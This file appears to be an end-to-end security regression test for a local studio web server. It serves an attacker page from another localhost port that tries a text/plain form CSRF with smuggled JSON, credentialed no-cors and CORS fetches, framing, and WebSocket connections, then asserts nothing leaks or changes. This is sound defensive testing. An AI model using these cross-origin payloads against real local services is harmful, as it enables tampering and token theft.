// The studio open in Chromium while a page served from another 127.0.0.1 port attacks it (issue 12):
// a <form enctype=text/plain> POST, a no-cors fetch, a CORS fetch, WebSockets (one to `//`, which
// crashed the old server), framing the studio and fetching its page. The attacker's server records
// every request the browser sends it: the session token must never reach it (the old server's
// `mtl_token` cookie went to every port). Afterwards the run is unchanged and the server is alive.
// Also: two studios in one browser each keep working after a reload (they shared a cookie name).
import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { resolveConfig } from '../../core/api/config/resolve.ts';
import { createRun } from '../../core/runs/store.ts';
import { Selectors } from './selectors.ts';
import { openStudio } from './steps/openStudio.ts';
import { launchChromium } from './support/browser.ts';
// @ts-expect-error a plain .mjs script without types
import { launcherFile } from '../../scripts/openBrowser.mjs';
import { serveStudio, type ServedStudio } from './support/serve.ts';

let studio: ServedStudio;
let second: ServedStudio | undefined;
let browser: Browser;
let context: BrowserContext;
let victim: Page;
let runDir: string;
let runId: string;
let attacker: Server;
let attackerOrigin: string;
const seen: { url: string; headers: IncomingHttpHeaders; body: string }[] = [];

/** The attacker's page: every attack it can make from its own origin, results posted back home. */
const attackPage = (studioOrigin: string, id: string): string => `<!doctype html><meta charset="utf-8">
<iframe name="sink" id="sink"></iframe>
<iframe id="framed" src="${studioOrigin}/"></iframe>
<form id="f" method="POST" enctype="text/plain" target="sink" action="${studioOrigin}/api/runs.setNotes">
  <input name='{"id":"${id}","notes":"owned by form","pad":"' value='"}'>
</form>
<script>
const results = {};
const note = (k, v) => { results[k] = String(v); };
async function attack() {
  document.getElementById('f').submit();
  try {
    await fetch('${studioOrigin}/api/runs.addTag', { method: 'POST', mode: 'no-cors', credentials: 'include',
      headers: { 'content-type': 'text/plain' }, body: JSON.stringify({ id: '${id}', tag: 'owned-no-cors' }) });
    note('noCors', 'sent');
  } catch (e) { note('noCors', 'threw ' + e); }
  try {
    const r = await fetch('${studioOrigin}/api/runs.setNotes', { method: 'POST', credentials: 'include',
      headers: { 'content-type': 'application/json' }, body: JSON.stringify({ id: '${id}', notes: 'owned by cors' }) });
    note('cors', 'read ' + (await r.text()));
  } catch (e) { note('cors', 'blocked'); }
  try {
    const r = await fetch('${studioOrigin}/', { credentials: 'include' });
    note('page', 'read ' + (await r.text()));
  } catch (e) { note('page', 'blocked'); }
  try {
    const r = await fetch('${studioOrigin}/', { mode: 'no-cors', credentials: 'include' });
    note('pageNoCors', r.type);
  } catch (e) { note('pageNoCors', 'blocked'); }
  try {
    note('framed', document.getElementById('framed').contentDocument ? 'readable' : 'not readable');
  } catch (e) { note('framed', 'not readable'); }
  const socket = (path) => new Promise((resolve) => {
    const ws = new WebSocket('${studioOrigin.replace('http', 'ws')}' + path);
    ws.onopen = () => { ws.send(JSON.stringify({ op: 'sub', sub: 1, event: 'onRunsChanged', params: {} })); resolve('open'); };
    ws.onerror = () => resolve('refused');
  });
  note('ws', await socket('/ws'));
  note('wsSlashes', await socket('//'));
  note('wsBadCookie', await socket('/ws?x=%E0%A4%A'));
  await new Promise((r) => setTimeout(r, 500));
  await fetch('/report', { method: 'POST', body: JSON.stringify(results) });
  window.done = results;
}
attack();
</script>`;

beforeAll(async () => {
  [studio, browser] = await Promise.all([serveStudio(), launchChromium()]);
  const run = createRun(studio.workspace, { config: resolveConfig({}), name: 'victim' });
  runDir = run.dir;
  runId = run.id;
  attacker = createServer((req, res) => {
    let body = '';
    req.on('data', (c) => (body += c));
    req.on('end', () => {
      seen.push({ url: req.url ?? '', headers: req.headers, body });
      res.writeHead(200, { 'content-type': 'text/html' });
      res.end(req.url === '/' ? attackPage(studio.origin, runId) : 'ok');
    });
  });
  await new Promise<void>((r) => attacker.listen(0, '127.0.0.1', r));
  attackerOrigin = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`;
  context = await browser.newContext();
  victim = await context.newPage();
});
afterAll(async () => {
  await browser?.close();
  await new Promise((r) => attacker?.close(r));
  await second?.stop();
  await studio?.stop();
});

const runJson = () =>
  JSON.parse(readFileSync(join(runDir, 'run.json'), 'utf8')) as { notes?: string; tags?: string[] };

describe('a page on another 127.0.0.1 port against the open studio', () => {
  it('opens the studio; the token leaves the address bar and no cookie carries it', async () => {
    await openStudio(victim, studio.url);
    expect(new URL(victim.url()).searchParams.get('token')).toBeNull();
    const cookies = await context.cookies();
    expect(cookies.filter((c) => c.value.includes(studio.token))).toEqual([]);
  });

  it('can neither change state nor read the token, and the server survives', async () => {
    const page = await context.newPage();
    await page.goto(attackerOrigin);
    const results = (await page
      .waitForFunction(() => (window as unknown as { done?: unknown }).done, null, {
        timeout: 30_000,
      })
      .then((h) => h.jsonValue())) as Record<string, string>;

    // Nothing changed.
    expect(runJson().notes ?? '').toBe('');
    expect(runJson().tags ?? []).toEqual([]);
    // Nothing read: the CORS fetch and the page fetch are blocked, the no-cors answer too (CORP),
    // the frame is refused, the sockets are refused.
    expect(results).toMatchObject({
      cors: 'blocked',
      page: 'blocked',
      pageNoCors: 'blocked', // Cross-Origin-Resource-Policy: same-origin
      framed: 'not readable',
      ws: 'refused',
      wsSlashes: 'refused',
      wsBadCookie: 'refused',
    });
    // The token never reached the attacker's server (cookie, referrer, body, anything).
    for (const r of seen) expect(JSON.stringify(r)).not.toContain(studio.token);
    expect(seen.some((r) => r.url === '/report')).toBe(true);
    // The server is alive and the studio page still works.
    expect(studio.alive()).toBe(true);
    await victim.reload();
    await victim.locator(Selectors.App).waitFor();
    await victim.locator(Selectors.Connecting).waitFor({ state: 'detached', timeout: 30_000 });
    expect(await victim.locator(Selectors.ErrorBanner).count()).toBe(0);
    await page.close();
  });

  it('keeps two studios in one browser working after a reload', async () => {
    second = await serveStudio();
    const other = await context.newPage();
    await openStudio(other, second.url);
    await victim.reload();
    await victim.locator(Selectors.Connecting).waitFor({ state: 'detached', timeout: 30_000 });
    expect(await victim.locator(Selectors.ErrorBanner).count()).toBe(0);
    await other.reload();
    await other.locator(Selectors.Connecting).waitFor({ state: 'detached', timeout: 30_000 });
    expect(await other.locator(Selectors.ErrorBanner).count()).toBe(0);
    // No ambient credential: even the studio's own page gets 401 from a call without the header.
    expect(
      await victim.evaluate(async () => (await fetch('/api/runs.list', { method: 'POST' })).status),
    ).toBe(401);
  });

  it('opens from the private file npm start hands the browser (no token on its command line)', async () => {
    const { file, remove } = launcherFile(studio.url) as { file: string; remove: () => void };
    try {
      const page = await context.newPage();
      await page.goto(pathToFileURL(file).href);
      await page.waitForURL(`${studio.origin}/**`, { timeout: 30_000 });
      await page.locator(Selectors.Connecting).waitFor({ state: 'detached', timeout: 30_000 });
      expect(await page.locator(Selectors.ErrorBanner).count()).toBe(0);
      expect(new URL(page.url()).searchParams.get('token')).toBeNull();
      await page.close();
    } finally {
      remove();
    }
  });
});
